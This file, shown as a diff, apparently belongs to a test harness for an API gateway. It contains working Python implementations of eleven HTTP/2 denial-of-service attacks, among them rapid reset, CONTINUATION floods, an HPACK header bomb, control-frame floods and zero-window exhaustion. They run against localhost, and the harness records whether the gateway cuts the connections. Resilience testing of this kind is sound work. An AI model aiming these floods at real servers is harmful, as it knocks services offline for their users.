@@ -1,0 +1,279 @@
+"""The attacks: each a function that misbehaves over HTTP/2 until a time, and says what became of it.
+
+Heads are encoded and connections opened by the h2 package; what it refuses to send are raw frames.
+An attack counts what it has sent and how many of its connections the gateway has ended, and notes
+how long its longest connection lived.
+"""
+
+import itertools
+import socket
+import ssl
+import struct
+import time
+
+import h2.config
+import h2.connection
+import h2.settings
+import hpack
+
+HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, DATA, PRIORITY = 1, 3, 4, 6, 8, 9, 0, 2
+END_STREAM, END_HEADERS = 1, 4
+BODY = b'{"number":"+44 7400 123456"}'
+# How long a connection that was ended may take to say so.
+PATIENCE_SECONDS = 5
+# Connections that withhold their windows, with 100 lookups each. Their token is good, so that each lookup in
+# flight costs what any does, some 8 KiB with its connection to the backend; what is looked at is the rest.
+HOLDING = 15
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+class Tally:
+    """What an attack has done so far."""
+
+    def __init__(self):
+        self.sent = self.connections = self.ended = 0
+        self.longest = 0.0
+
+    def report(self):
+        return {"sent": self.sent, "connections": self.connections, "ended": self.ended, "longest": self.longest}
+
+
+class Attacker:
+    """One hostile connection after the other."""
+
+    def __init__(self, target, until):
+        self.target, self.until, self.tally = target, until, Tally()
+
+    def running(self):
+        return time.monotonic() < self.until
+
+    def connect(self, settings=None):
+        """Opens a connection with the h2 package: the socket and the package's state."""
+        raw = socket.socket()
+        if self.target["small_buffers"]:
+            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        raw.settimeout(PATIENCE_SECONDS)
+        raw.connect(("127.0.0.1", self.target["port"]))
+        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        if self.target["tls"]:
+            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+            context.set_alpn_protocols(["h2"])
+            raw = context.wrap_socket(raw, server_hostname="localhost")
+        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+        if settings:
+            connection.local_settings.update(settings)
+        connection.initiate_connection()
+        raw.sendall(connection.data_to_send())
+        self.tally.connections += 1
+        self.opened = time.monotonic()
+        return raw, connection
+
+    def send(self, sock, data, count):
+        """Sends frames; whether the gateway still takes them. What it says is thrown away."""
+        try:
+            sock.sendall(data)
+            self.tally.sent += count
+            sock.settimeout(0.0)
+            try:
+                while True:
+                    if not sock.recv(1 << 16):
+                        return self.over(sock, True)
+            except (BlockingIOError, ssl.SSLWantReadError):
+                pass
+            sock.settimeout(PATIENCE_SECONDS)
+            return True
+        except OSError:
+            return self.over(sock, True)
+
+    def over(self, sock, ended):
+        self.tally.ended += ended
+        self.tally.longest = max(self.tally.longest, time.monotonic() - self.opened)
+        sock.close()
+        return False
+
+    def flood(self, begin, blob, count, settings=None):
+        """Sends `begin` and then the blob again and again, on one connection after the other."""
+        while self.running():
+            try:
+                sock, connection = self.connect(settings)
+            except OSError:
+                continue
+            alive = self.send(sock, begin(connection), 0)
+            while alive and self.running():
+                alive = self.send(sock, blob, count)
+            if alive:
+                self.over(sock, False)
+
+    def head(self, *extra):
+        return [(":method", "POST"), (":scheme", "http"), (":authority", "api.example.com"),
+                (":path", "/phone/validate/v2"), ("auth-token", self.target["token"]),
+                ("content-type", "application/json"), *extra]
+
+
+def rapid_reset(attacker):
+    """Opens and resets within one write: `h2` has not even given the requests away."""
+    block = hpack.Encoder().encode(attacker.head())
+    reset = struct.pack(">I", 8)
+    blob = b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset)
+                    for stream in range(1, 1000, 2))
+    while attacker.running() or attacker.tally.sent < attacker.target["least_resets"]:
+        try:
+            sock, _ = attacker.connect()
+        except OSError:
+            continue
+        if not attacker.send(sock, blob, 500):
+            continue
+        attacker.over(sock, drained(sock))
+
+
+def late_reset(attacker):
+    """Opens, lets the gateway begin the work, and only then resets."""
+    block = hpack.Encoder().encode(attacker.head())
+    while attacker.running():
+        try:
+            sock, _ = attacker.connect()
+        except OSError:
+            continue
+        alive, stream = True, 1
+        while alive and attacker.running():
+            streams = range(stream, stream + 100, 2)
+            stream += 100
+            alive = attacker.send(sock, b"".join(frame(HEADERS, END_HEADERS, s, block) for s in streams), 0)
+            time.sleep(0.003)
+            resets = b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in streams)
+            alive = alive and attacker.send(sock, resets, 50)
+        if alive:
+            attacker.over(sock, False)
+
+
+def drained(sock):
+    """Whether the gateway ends the connection when it is given the time."""
+    try:
+        sock.settimeout(PATIENCE_SECONDS)
+        while sock.recv(1 << 16):
+            pass
+        return True
+    except TimeoutError:
+        return False
+    except OSError:
+        return True
+
+
+def continuation(attacker):
+    """A head that never ends, in frames of a kilobyte and in empty ones."""
+    line = hpack.Encoder().encode([("x-filler", "a" * 900)])
+    blob = frame(CONTINUATION, 0, 1, line) * 16 + frame(CONTINUATION, 0, 1) * 64
+    attacker.flood(lambda _: frame(HEADERS, 0, 1, hpack.Encoder().encode(attacker.head())), blob, 80)
+
+
+def empty_data(attacker):
+    """A body of empty frames, which no window bounds."""
+    head = lambda _: frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(attacker.head()))
+    attacker.flood(head, frame(DATA, 0, 1) * 1000, 1000)
+
+
+def tiny_data(attacker):
+    """A body of single bytes, each with a frame around it."""
+    head = lambda _: frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(attacker.head()))
+    attacker.flood(head, frame(DATA, 0, 1, b"a") * 1000, 1000)
+
+
+def header_bomb(attacker):
+    """Kilobytes that say megabytes: one large line in the table, and a head of references to it."""
+    encoder = hpack.Encoder()
+    plant = encoder.encode(attacker.head(("x-bomb", "a" * 3900)))
+    # The newest entry of the table has index 62.
+    block = hpack.Encoder().encode(attacker.head()) + b"\xbe" * 15_000
+    streams = itertools.count(3, 2)
+    while attacker.running():
+        try:
+            sock, _ = attacker.connect()
+        except OSError:
+            continue
+        alive = attacker.send(sock, frame(HEADERS, END_HEADERS | END_STREAM, 1, plant), 0)
+        while alive and attacker.running():
+            alive = attacker.send(sock, frame(HEADERS, END_HEADERS | END_STREAM, next(streams), block), 1)
+        if alive:
+            attacker.over(sock, False)
+        streams = itertools.count(3, 2)
+
+
+def pings(attacker):
+    attacker.flood(lambda _: b"", frame(PING, 0, 0, b"12345678") * 1000, 1000)
+
+
+def settings(attacker):
+    blob = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500 + frame(SETTINGS, 0, 0) * 500
+    attacker.flood(lambda _: b"", blob, 1000)
+
+
+def priorities(attacker):
+    """Frames that mean nothing: priorities, and windows of a stream that is over."""
+    blob = (frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)) + frame(99, 0, 0, b"?")) * 500
+    attacker.flood(lambda _: b"", blob, 1000)
+
+
+def withheld(attacker, connections, window):
+    """Many requests on many connections, whose answers nobody makes room for."""
+    held = []
+    small = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
+    block = hpack.Encoder().encode(attacker.head(("content-length", str(len(BODY)))))
+    blob = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY) for s in range(1, 200, 2))
+    for _ in range(connections):
+        sock, _ = attacker.connect(small)
+        sock.sendall(blob)
+        attacker.tally.sent += 100
+        held.append((sock, time.monotonic()))
+    return held
+
+
+def zero_windows(attacker):
+    """Clients that never open a window, on every stream that they may have."""
+    for sock, _ in withheld(attacker, HOLDING, 0):
+        attacker.over(sock, drained(sock))
+
+
+def unread(attacker):
+    """Clients with open windows that stop reading from their sockets, and go on asking."""
+    held = []
+    block = hpack.Encoder().encode(attacker.head(("content-length", str(len(BODY)))))
+    for _ in range(HOLDING):
+        sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
+        sock.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
+        sock.settimeout(0.0)
+        held.append([sock, 1, attacker.opened])
+    while held and (attacker.running() or time.monotonic() < attacker.until + PATIENCE_SECONDS):
+        for entry in list(held):
+            sock, stream, opened = entry
+            blob = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY)
+                            for s in range(stream, stream + 40, 2))
+            try:
+                attacker.tally.sent += 20 if sock.send(blob) == len(blob) else 0
+                entry[1] += 40
+            except (BlockingIOError, ssl.SSLWantWriteError):
+                pass
+            except OSError:
+                attacker.opened = opened
+                attacker.over(sock, True)
+                held.remove(entry)
+        time.sleep(0.02)
+
+
+# Each with whether the gateway has to end its connections itself.
+ATTACKS = [
+    (rapid_reset, True),
+    (late_reset, True),
+    (continuation, True),
+    (empty_data, True),
+    (tiny_data, True),
+    (header_bomb, True),
+    (pings, True),
+    (settings, True),
+    (priorities, True),
+    (zero_windows, False),
+    (unread, True),
+]
